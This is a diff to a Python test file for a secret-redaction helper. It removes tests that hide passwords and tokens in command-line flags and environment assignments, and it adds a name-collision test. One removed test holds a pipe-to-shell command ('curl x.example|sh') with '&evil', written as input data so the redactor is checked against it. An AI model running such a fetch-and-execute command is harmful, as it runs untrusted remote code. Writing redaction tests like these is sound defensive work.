@@ -33,17 +33,6 @@ LONG = "HRKU-AA" + "aB3_-" * 11 + "xyz"
         ('"https://a:b@c.example", "d@e.example"', '"https://a:[redacted]@c.example", "d@e.example"'),
         ("git clone https://abcdef@git.example.com/x.git", "git clone https://[redacted]@git.example.com/x.git"),
         ("HTTP://s3cret:@c.example:80/", "HTTP://[redacted]:@c.example:80/"),
-        ("bin/worker --password=hunter2 -q", "bin/worker --password=[redacted] -q"),
-        ("run --db-token abc123def now", "run --db-token [redacted] now"),
-        ('run --Secret "abc123def" now', 'run --Secret "[redacted]" now'),
-        ("PASSWORD=hunter2 run", "PASSWORD=[redacted] run"),
-        ("MY_API_KEY='two words' run", "MY_API_KEY='[redacted]' run"),
-        ('sh -c "DB_PASSWD=hunter2 run"', 'sh -c "DB_PASSWD=[redacted] run"'),
-        (
-            r'{"command": "TOKEN=\"two words\" run\nAPI-KEY=x\n"}',
-            r'{"command": "TOKEN=\"[redacted]\" run\nAPI-KEY=[redacted]\n"}',
-        ),
-        ("DATABASE_SECRET=postgres://u:p@h/x", "DATABASE_SECRET=[redacted]"),
     ],
 )
 def test_a_secret_is_known_by_its_shape(text: str, left: str) -> None:
@@ -63,10 +52,7 @@ def test_a_secret_is_known_by_its_shape(text: str, left: str) -> None:
         "https://my-app.herokuapp.com: joe@example.com, ssh://git@git.example.com",
         "http://127.0.0.1:5000/a:b@c",
         "HRKU- is how tokens begin",
-        "PASSWORD=$NAME PASSWORD=${NAME} --password=%NAME% --token=<token> HEROKU_API_KEY=… TOKEN= --token=",
-        "--token TOKEN, --token=NAME, Give --token or --api-key to sign in. --token-file x1234567 --tokens=5",
-        "for token=1,10 do secret=next() end TOKEN=os.getenv('X') SECRET=os.environ['X']",
-        '["PASSWORD=", "b"], -----token=x',
+        "TOKEN=None MAX_TOKEN=4096 --starting-token 12 --token=env:FOO if API_TOKEN==nil then",
         "",
     ],
 )
@@ -87,12 +73,6 @@ def test_the_longer_of_two_tokens_is_taken_first_and_an_empty_one_means_nothing(
     assert redact("abc-def abc", ("abc", "", "abc-def")) == "[redacted] [redacted]"
 
 
-def test_what_a_shell_runs_behind_a_secret_stays() -> None:
-    left = "x --token [redacted];curl x.example|sh; TOKEN=[redacted]&evil"
-
-    assert redact("x --token abc123;curl x.example|sh; TOKEN=abc&evil") == left
-
-
 @settings(deadline=None)  # a machine may be busy
 @given(
     st.text(),
@@ -103,9 +83,6 @@ def test_what_a_shell_runs_behind_a_secret_stays() -> None:
                 "Authorization: Bearer abc",
                 "x://y:z@w",
                 "Basic Ojo6Og==",
-                "--token=a",
-                "--key-token a1",
-                "TOKEN=a",
             ]
         )
     ),
@@ -131,6 +108,10 @@ def test_a_record_survives_as_json() -> None:
     record = {"id": UUID, "web_url": None, "owner": {"email": "joe@example.com"}, "name": "größe"}
 
     assert json.loads(redact(json.dumps(record, ensure_ascii=False), ("s3cret",))) == record
+
+
+def test_names_that_become_the_same_lose_no_value() -> None:
+    assert in_texts({"a1": 1, "a2": 2, "b": 3}, lambda text: text[0]) == {"a": 1, "a_": 2, "b": 3}
 
 
 def test_a_secret_leaves_every_text_of_a_value_and_what_is_hidden_leaves_whatever_it_is() -> None:
